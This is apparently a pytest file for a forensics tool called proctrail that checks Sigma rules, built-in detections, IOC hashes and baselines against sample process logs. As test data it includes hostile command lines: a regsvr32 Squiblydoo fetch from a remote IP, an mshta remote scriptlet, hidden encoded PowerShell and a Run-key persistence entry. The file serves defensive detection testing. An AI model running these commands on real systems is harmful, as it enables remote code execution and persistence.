"""Detections: Sigma rules compiled by proctrail, SigmaHQ's regression cases, the built-in
rules' true and false cases, and the detection pass over the demo and the samples."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from proctrail.store.correlate import correlate
from proctrail.store.db import open_engine
from proctrail.store.detect.fields import sigma_fields
from proctrail.store.detect.index import RuleIndex
from proctrail.store.detect.run import BUILTIN, detect
from proctrail.store.detect.sigma import compile_rule, load_rules
from proctrail.store.events import Event
from proctrail.store.findings import add_finding
from proctrail.store.ingest import Ingestor
from proctrail.store.queries import export_findings, export_processes
from proctrail.store.queries.findings import list_findings
from proctrail.store.readers.base import ReadOptions
from proctrail.store.readers.sniff import iter_inputs, open_records

ROOT = Path(__file__).resolve().parents[1]


def rule(detection: str, product: str = "windows") -> object:
    return compile_rule(f"""
title: t
id: 00000000-0000-0000-0000-000000000001
logsource:
    category: process_creation
    product: {product}
detection:
{detection}
level: high
""")


def test_modifiers_and_conditions() -> None:
    r = rule("""
    sel:
        Image|endswith: '\\cmd.exe'
        CommandLine|contains|all: ['/c', 'whoami']
    re_sel:
        CommandLine|re: 'who[a-z]{2}i'
    win:
        CommandLine|windash|contains: '-enc '
    b64:
        CommandLine|base64offset|contains: 'IEX'
    net:
        DestinationIp|cidr: '10.0.0.0/8'
    condition: (sel and re_sel) or win or b64 or net
""")
    assert r.match({"Image": "C:\\WINDOWS\\CMD.EXE", "CommandLine": "cmd /C whoami"})
    assert not r.match({"Image": "C:\\WINDOWS\\CMD.EXE", "CommandLine": "cmd /C WHOAMI"})
    assert not r.match({"Image": "C:\\x\\cmd.exe", "CommandLine": "cmd /c dir"})
    assert r.match({"CommandLine": "powershell /enc AAAA"})  # windash: - or /
    assert r.match({"CommandLine": "x SUVYIC"})  # base64 of "IEX "
    assert r.match({"DestinationIp": "10.2.3.4"}) and not r.match({"DestinationIp": "11.0.0.1"})
    keywords = rule("""
    keywords: ['mimikatz']
    filter:
        User: null
    condition: keywords and not filter
""")
    assert keywords.match({"CommandLine": "x MimiKatz.exe", "User": "bob"})
    assert not keywords.match({"CommandLine": "mimikatz"})  # User absent: null matches


def test_sigmahq_regression_cases_all_fire(samples: Path) -> None:
    """Each case names a rule and an EVTX the rule must fire on; all rules run at once."""
    root = samples / "sigma"
    rules, refused = load_rules([root / "rules"])
    assert len(rules) > 1100
    assert {r.reason for r in refused} == {"log source 'auditd' is not process creation"}
    windows = [r for r in rules if r.product == "windows"]
    index = RuleIndex(windows)
    fired_cases = missing = 0
    for info in sorted((root / "regression_data").rglob("info.yml")):
        meta = yaml.safe_load(info.read_text())
        rule_id = meta["rule_metadata"][0]["id"]
        for case in meta["regression_tests_info"]:
            path = root / case["path"]
            if not path.exists():
                missing += 1  # listed in info.yml, not in the samples
                continue
            fired: set[str] = set()
            (item,) = iter_inputs([str(path)])
            with item.open() as stream:
                _fmt, records = open_records(item, stream, ReadOptions())
                for e in records:
                    if isinstance(e, Event) and e.kind == "process_start":
                        fields = sigma_fields(e.channel, e.event_id, e.fields)
                        every = {r.id for r in windows if r.match(fields)}
                        assert {r.id for r in index.matches(fields)} == every  # no miss
                        fired |= every
            assert rule_id in fired, (info.parent.name, rule_id)
            fired_cases += 1
    assert fired_cases >= 86 and missing <= 1


BUILTIN_CASES = {
    "Regsvr32 Runs a Remote or Scriptlet COM Object (Squiblydoo)": (
        {"Image": r"C:\Windows\System32\regsvr32.exe",
         "CommandLine": "regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll"},
        {"Image": r"C:\Windows\System32\regsvr32.exe",
         "CommandLine": 'regsvr32 /s /i:"C:\\Program Files\\App\\x.sct" x.dll'}),
    "Command-line FTP Runs a Script File": (
        {"Image": r"C:\Windows\System32\ftp.exe", "CommandLine": "ftp -s:C:\\Users\\x\\s.txt"},
        {"Image": r"C:\Windows\System32\ftp.exe", "CommandLine": "ftp -s:c.txt",
         "ParentImage": r"C:\Windows\CCM\CcmExec.exe"}),
    "PowerShell With a Hidden Window or an Encoded Command": (
        {"Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
         "CommandLine": "powershell.exe -NoP -WindowStyle Hidden -enc SQBFAFgA"},
        {"Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
         "CommandLine": "powershell.exe -File C:\\scripts\\backup.ps1"}),
    "Program Runs From a Folder That Holds No Programs": (
        {"Image": r"C:\Users\Public\updater.exe"},
        {"Image": r"C:\Users\bob\AppData\Local\Temp\{GUID}\DismHost.exe"}),
    "Run Key Written With reg add": (
        {"Image": r"C:\Windows\System32\reg.exe", "CommandLine":
         r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d C:\u.exe"},
        {"Image": r"C:\Windows\System32\reg.exe", "CommandLine":
         r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDrive /d "
         r"C:\Users\b\AppData\Local\Microsoft\OneDrive\OneDrive.exe"}),
    "Mshta or Rundll32 Runs Script Code or a Remote HTML Application": (
        {"Image": r"C:\Windows\System32\mshta.exe",
         "CommandLine": "mshta.exe javascript:a=GetObject('script:http://x/a.sct').Exec()"},
        {"Image": r"C:\Windows\System32\rundll32.exe",
         "CommandLine": "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"}),
    "Office Application Starts a Shell or Script Host": (
        {"ParentImage": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
         "Image": r"C:\Windows\System32\cmd.exe", "CommandLine": "cmd /c calc"},
        {"ParentImage": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
         "Image": r"C:\Windows\splwow64.exe", "CommandLine": "splwow64.exe 8192"}),
}


def test_builtin_rules_true_and_false_cases() -> None:
    rules, refused = load_rules([BUILTIN])
    # The later rules' cases are in test_builtin_rules.py.
    assert not refused and set(BUILTIN_CASES) <= {r.title for r in rules}
    for r in (r for r in rules if r.title in BUILTIN_CASES):
        true_case, false_case = BUILTIN_CASES[r.title]
        assert r.match(true_case), r.title
        assert not r.match(false_case), r.title
        assert r.tags and all(t.startswith("attack.") for t in r.tags)


@pytest.fixture
def demo(demo_case):
    return demo_case


def test_detection_on_the_demo_marks_the_intrusion_once_per_process(demo) -> None:
    add_finding(demo, "process", next(p["id"] for p in export_processes(demo)),
                "an analyst's bookmark", author="ana")
    for _ in range(2):  # a second pass replaces the first's findings
        report = detect(demo)
    assert report.rules == len(load_rules([BUILTIN])[0]) == 18 and not report.refused
    found = [f for f in export_findings(demo) if f["kind"] == "rule"]
    by_image = {}
    procs = {p["id"]: p for p in export_processes(demo)}
    for f in found:
        by_image.setdefault(f["rule_title"], set()).add(
            procs[f["process_id"]]["image"].rsplit("\\", 1)[-1])
    assert by_image == {
        "Regsvr32 Runs a Remote or Scriptlet COM Object (Squiblydoo)": {"regsvr32.exe"},
        "Command-line FTP Runs a Script File": {"ftp.exe"},
        "PowerShell With a Hidden Window or an Encoded Command": {"powershell.exe"},
        "Program Runs From a Folder That Holds No Programs": {"updater.exe"},
        "Run Key Written With reg add": {"reg.exe"},
        "Office Application Starts a Shell or Script Host": {"powershell.exe"},
        "Domain Admins, Domain Controllers or Trusts Enumerated": {"net.exe", "nltest.exe"},
        "Windows Event Log Cleared From the Command Line": {"wevtutil.exe"},
        "Curl or Wget Fetches From a Bare IP Address": {"/usr/bin/curl"},
        "Reverse Shell One-liner": {"/usr/bin/python3.11"}}
    assert len(found) == 11  # 4688 and Sysmon 1 of one process: one finding
    assert all((f["tags"] and f["level"] == "high") or f["level"] == "medium" for f in found)
    assert [f.note for f in list_findings(demo) if f.kind == "bookmark"] == [
        "an analyst's bookmark"]


def test_detect_command_over_the_sigmahq_rules(demo, db_url: str, samples: Path) -> None:
    script = Path(sys.executable).with_name("proctrail")
    done = subprocess.run([str(script), "detect", "--db", db_url, "--rules",
                           str(samples / "sigma/rules/windows/process_creation")],
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    first = done.stdout.splitlines()[0]
    assert "refused" in first and "findings" in first
    assert "Suspicious Microsoft Office Child Process" in done.stdout
    out = subprocess.run([str(script), "export", "findings", "--db", db_url],
                         capture_output=True, text=True, timeout=60)
    records = [json.loads(line) for line in out.stdout.splitlines()]
    assert records and set(records[0]) >= {"id", "kind", "rule_id", "rule_title", "level",
                                           "host", "process_id", "session_id", "time",
                                           "summary", "tags"}
    bad = subprocess.run([str(script), "detect", "--db", db_url, "--rules", "/nonexistent"],
                         capture_output=True, text=True)
    assert bad.returncode == 2 and "no such rule file or folder" in bad.stderr


def test_ioc_hashes_mark_the_processes_that_ran_them(demo, tmp_path: Path) -> None:
    from proctrail.generate.model import fake_hash
    from proctrail.store.detect.ioc import IocError, hashes_of, load_iocs

    updater = fake_hash("sha256", r"C:\Users\Public\updater.exe")
    iocs = tmp_path / "iocs.csv"
    iocs.write_text(f"indicator,type\n{updater.lower()},sha256\n{'ab' * 16},md5\n")
    report = detect(demo, iocs=load_iocs([iocs]))
    found = [f for f in export_findings(demo) if f["kind"] == "ioc"]
    procs = {p["id"]: p for p in export_processes(demo)}
    assert [procs[f["process_id"]]["image"] for f in found] == [r"C:\Users\Public\updater.exe"]
    assert found[0]["rule_id"] == updater.lower() and "iocs.csv" in found[0]["summary"]
    assert report.by_rule[f"IOC SHA256 {updater.lower()}"] == 1
    assert hashes_of("SHA1=AB" + "0" * 38 + ",MD5=" + "c" * 32) == [
        ("SHA1", "ab" + "0" * 38), ("MD5", "c" * 32)]
    empty = tmp_path / "none.txt"
    empty.write_text("no digests here\n")
    with pytest.raises(IocError, match=r"none\.txt: no MD5, SHA1 or SHA256 digest"):
        load_iocs([empty])


def test_filter_keeps_processes_with_findings_and_the_tree_their_ancestors(demo) -> None:
    from proctrail.store.queries import browse
    from proctrail.store.queries.filters import parse_filter

    detect(demo)
    flagged = browse.search(demo, "", parse_filter("findings"))
    assert sorted(r.name for r in flagged) == ["curl", "ftp.exe", "net.exe", "nltest.exe",
                                               "powershell.exe", "python3.11", "reg.exe",
                                               "regsvr32.exe", "updater.exe", "wevtutil.exe",
                                               "whoami.exe"]  # WS02's discovery burst
    assert all(r.findings for r in flagged)
    alice = next(s for s in browse.session_rows(demo) if s.logon_id == "0x5b3f21")
    forest, matched = browse.filtered_forest(demo, parse_filter("findings"), alice.id)
    shown = {r.name for rows in forest.values() for r in rows}
    assert matched == 5 and shown >= {"WINWORD.EXE", "OUTLOOK.EXE", "explorer.exe",
                                      "userinit.exe", "powershell.exe"}


def test_baseline_first_seen_executables(demo, tmp_path: Path, db_url: str) -> None:
    from proctrail.store.detect.baseline import (
        BaselineError,
        build_baseline,
        export_baseline,
        first_seen,
        import_baseline,
    )
    from proctrail.store.readers.base import parse_time

    # What ran before the intrusion (08:00) is known; the intrusion's programs are not.
    n = build_baseline(demo, "before", end_us=parse_time("2026-11-02T08:00:00Z"))
    assert n > 5
    seen = {(f["host"], f["image"].rsplit("\\", 1)[-1]) for f in first_seen(demo, "before")}
    assert ("WS01.corp.example", "updater.exe") in seen
    assert ("WS01.corp.example", "powershell.exe") in seen
    assert not any(image.lower() == "taskhostw.exe" for _host, image in seen)
    report = detect(demo, baselines=["before"])
    flagged = [f for f in export_findings(demo) if f["kind"] == "baseline"]
    assert len(flagged) == len(seen) == report.by_rule["not in baseline before"]
    assert all(f["process_id"] for f in flagged)  # each anchored on a lifetime
    # An imported listing: case and separators do not matter; one line per executable.
    listing = tmp_path / "golden.txt"
    listing.write_text("c:/windows/system32/TASKHOSTW.EXE\r\nC:\\Users\\Public\\updater.exe\r\n"
                       "not a path\r\n", encoding="utf-8")
    assert import_baseline(demo, "golden", listing) == 2
    assert list(export_baseline(demo, "golden")) == [
        "c:\\users\\public\\updater.exe", "c:\\windows\\system32\\taskhostw.exe"]
    golden = {f["image"].rsplit("\\", 1)[-1].lower() for f in first_seen(demo, "golden")}
    assert "updater.exe" not in golden and "taskhostw.exe" not in golden
    assert "powershell.exe" in golden
    with pytest.raises(BaselineError, match="no baseline named 'nope'"):
        first_seen(demo, "nope")
    script = Path(sys.executable).with_name("proctrail")
    done = subprocess.run([str(script), "baseline", "build", "cli", "--db", db_url,
                           "--host", "lnx01", "--per-host"], capture_output=True, text=True)
    assert done.returncode == 0 and "baseline cli:" in done.stdout
    bad = subprocess.run([str(script), "detect", "--db", db_url, "--baseline", "nope"],
                         capture_output=True, text=True)
    assert bad.returncode == 2 and "no baseline named 'nope'" in bad.stderr


def test_config_file_tracks_ignores_and_raises_anomalies(demo, tmp_path: Path,
                                                         db_url: str) -> None:
    from proctrail.store.detect.config import ConfigError, load_config

    (tmp_path / "iocs.txt").write_text("ab" * 32 + "\n")
    path = tmp_path / "proctrail.toml"
    path.write_text("""
[detect]
iocs = ["iocs.txt"]
[track]
exclude = ['*\\regsvr32.exe']
[anomalies]
record_gap = "off"
log_cleared = "critical"
pid_reused = "low"
""")
    config = load_config(path)
    assert config.iocs == [tmp_path / "iocs.txt"] and not config.tracked(
        r"C:\\WINDOWS\\system32\\REGSVR32.EXE")
    report = detect(demo, config=config)
    titles = set(report.by_rule)
    assert "Regsvr32 Runs a Remote or Scriptlet COM Object (Squiblydoo)" not in titles
    assert "PowerShell With a Hidden Window or an Encoded Command" in titles
    anomalies = {f["rule_id"]: f for f in export_findings(demo) if f["kind"] == "anomaly"}
    assert anomalies["log_cleared"]["level"] == "critical"
    assert anomalies["pid_reused"]["level"] == "low" and "record_gap" not in anomalies
    assert anomalies["clock_jump"]["host"] == "WS02.corp.example"
    bad = tmp_path / "bad.toml"
    bad.write_text("[anomalies]\nlog_cleared = \"urgent\"\n")
    with pytest.raises(ConfigError, match=r"bad\.toml: \[anomalies\] log_cleared"):
        load_config(bad)
    script = Path(sys.executable).with_name("proctrail")
    done = subprocess.run([str(script), "detect", "--db", db_url, "--config", str(path)],
                          capture_output=True, text=True)
    assert done.returncode == 0 and "integrity: log_cleared" in done.stdout


def test_detection_over_every_public_sample(samples: Path, tmp_path: Path) -> None:
    """Every sample in ../shared/samples but the OTRF datasets (test_signal's; half a
    million records of noise that cost this test 40 s) ingested, correlated and detected
    at once: every regression case's rule fires on its own log among all the others."""
    engine = open_engine(f"sqlite:///{tmp_path / 'all.db'}")
    report = Ingestor(engine).run([str(p) for p in sorted(samples.iterdir())
                                   if p.name != "otrf"])
    assert report.total("stored") > 10_000
    correlate(engine)
    report = detect(engine, [samples / "sigma" / "rules"])
    assert report.events > 3000 and report.findings > 1500
    fired = {f["rule_id"] for f in export_findings(engine) if f["kind"] == "rule"}
    expected = set()
    for info in (samples / "sigma" / "regression_data").rglob("info.yml"):
        meta = yaml.safe_load(info.read_text())
        if all((samples / "sigma" / case["path"]).exists()
               for case in meta["regression_tests_info"]):
            expected.add(meta["rule_metadata"][0]["id"])
    assert len(expected) >= 80 and expected <= fired


def test_ignored_processes_leave_the_trees_and_their_children_move_up(db_url: str,
                                                                      tmp_path: Path) -> None:
    from proctrail.store.detect.config import Config

    engine = open_engine(db_url)
    Ingestor(engine).run([str(ROOT / "sample_logs")])
    correlate(engine, tracked=Config(exclude=["*\\outlook.exe"]).track_filter)
    procs = {p["id"]: p for p in export_processes(engine)}
    names = [p["image"].rsplit("\\", 1)[-1] for p in procs.values()]
    assert "OUTLOOK.EXE" not in names and "WINWORD.EXE" in names
    (word,) = [p for p in procs.values() if p["image"].endswith("WINWORD.EXE")]
    assert procs[word["parent_id"]]["image"].endswith("explorer.exe")
    kept = Config(include=["c:\\windows\\system32\\*"])
    assert kept.tracked(r"C:\Windows\System32\cmd.exe")
    assert not kept.tracked(r"C:\Users\Public\updater.exe")
    (tmp_path / "proctrail.toml").write_text("[track]\nexclude = 3\n")
    script = Path(sys.executable).with_name("proctrail")
    bad = subprocess.run([str(script), "correlate", "--db", db_url], cwd=tmp_path,
                         capture_output=True, text=True)
    assert bad.returncode == 2 and "proctrail.toml" in bad.stderr
